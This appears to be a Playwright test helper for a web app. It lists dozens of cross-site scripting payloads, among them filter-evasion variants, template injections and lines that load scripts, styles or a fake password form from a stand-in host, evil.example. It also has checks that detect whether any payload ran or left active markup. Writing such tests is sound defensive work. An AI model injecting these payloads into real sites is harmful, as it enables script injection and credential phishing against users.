/** What somebody might write so that a page runs it, loads from elsewhere, or is drawn by it; each that runs sets `__xss`. */
import type { BrowserContext } from '@playwright/test';
import { watchBehaviour } from './people.ts';

/** Short enough for every name; each breaks out of another place: text, attribute, script, title, field. */
export const hostileNames = [
	'<script>__xss=1</script>',
	'"><img src=x onerror=__xss=1>',
	"'><svg onload=__xss=1>",
	'</script><svg onload=__xss=1>',
	'</title><svg onload=__xss=1>'
];

/** For words of any length. */
export const hostileWords = [
	...hostileNames,
	'<script src="//evil.example/x.js"></script>',
	'<ScRiPt >__xss=1</sCrIpT >',
	'<scr<script>ipt>__xss=1</scr</script>ipt>',
	'<svg><script>__xss=1</script></svg>',
	'<svg><animate onbegin=__xss=1 attributeName=x dur=1s>',
	'<svg><use href="data:image/svg+xml,<svg id=x onload=__xss=1>#x"/></svg>',
	'<math><mtext><table><mglyph><style><!--</style><img src=x onerror=__xss=1>',
	'<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
	'<iframe src="javascript:parent.__xss=1"></iframe>',
	'<object data="javascript:__xss=1"></object><embed src="//evil.example/x">',
	'<a href="javascript:__xss=1">aquí</a>',
	'<a href="jav&#x09;ascript:__xss=1">aquí</a>',
	'javascript:__xss=1',
	'data:text/html,<script>__xss=1</script>',
	'<details open ontoggle=__xss=1>',
	'<input autofocus onfocus=__xss=1>',
	'<video><source onerror=__xss=1></video>',
	'<body onload=__xss=1>',
	'" onmouseover="__xss=1" autofocus onfocus="__xss=1',
	"' onmouseover='__xss=1' autofocus onfocus='__xss=1",
	'`onmouseover=__xss=1`',
	'<style>@import "//evil.example/x.css";*{background:url(//evil.example/x.png)}</style>',
	'<link rel=stylesheet href="//evil.example/x.css">',
	'<p style="position:fixed;inset:0;background:url(//evil.example/x.png)">',
	'<base href="//evil.example/">',
	'<meta http-equiv=refresh content="0;url=//evil.example/">',
	'<form action="//evil.example/"><input name=password><button>Entrar</button></form>',
	'<img src="//evil.example/x.png"><audio src="//evil.example/x.mp3" autoplay>',
	'</textarea><script>__xss=1</script>',
	'</style></noscript></template><script>__xss=1</script>',
	'--><script>__xss=1</script><!--',
	']]><script>__xss=1</script>',
	'<!--<script>',
	'<plaintext>',
	'<template shadowrootmode=open><script>__xss=1</script></template>',
	'{{constructor.constructor("__xss=1")()}}',
	'{@html "<img src=x onerror=__xss=1>"} ${__xss=1} #{__xss=1} <%= __xss=1 %>',
	'$t(app.name) {{count}} {{name, uppercase}}',
	'";__xss=1;// \\";__xss=1;// \\u003cscript\\u003e__xss=1\\u003c/script\\u003e',
	'%3Cscript%3E__xss=1%3C/script%3E &lt;script&gt;__xss=1&lt;/script&gt; &#60;script&#62;',
	'a\u2028__xss=1\u2029b',
	'\u202e<script>__xss=1</script>\u202c \u2066\u2069 \u200e\u200f\ufeff',
	'＜script＞__xss=1＜/script＞ ﹤img src=x onerror=__xss=1﹥',
	'<ſcript>__xss=1</ſcript><ımg src=x onerror=__xss=1>'
];

/** Nothing that a page shows may open a window, break the policy, throw, or ask another host. Gives what does, as it happens. */
export function watchHostile(context: BrowserContext): string[] {
	const found = watchBehaviour(context);
	context.on('dialog', (dialog) => {
		found.push(dialog.message());
		void dialog.dismiss();
	});
	return found;
}

/** In a page: did something run, or does something of it stand there as more than text? Gives what. */
export function foundIn(): string[] {
	const acting = [
		...[
			'iframe',
			'object',
			'embed',
			'base',
			'math',
			'plaintext',
			'marquee',
			'meta[http-equiv=refresh]'
		],
		...[
			'[onerror]',
			'[onload]',
			'[ontoggle]',
			'[onfocus]',
			'[onbegin]',
			'[onmouseover]',
			'[shadowrootmode]'
		],
		...['href', 'src', 'action', 'data'].map((name) => `[${name}*="evil.example"]`),
		...['href', 'src', 'action'].map((name) => `[${name}^="javascript:" i]`)
	];
	const standing = [...document.querySelectorAll(acting.join(','))].map(
		({ outerHTML }) => outerHTML
	);
	return '__xss' in window ? ['something ran', ...standing] : standing;
}
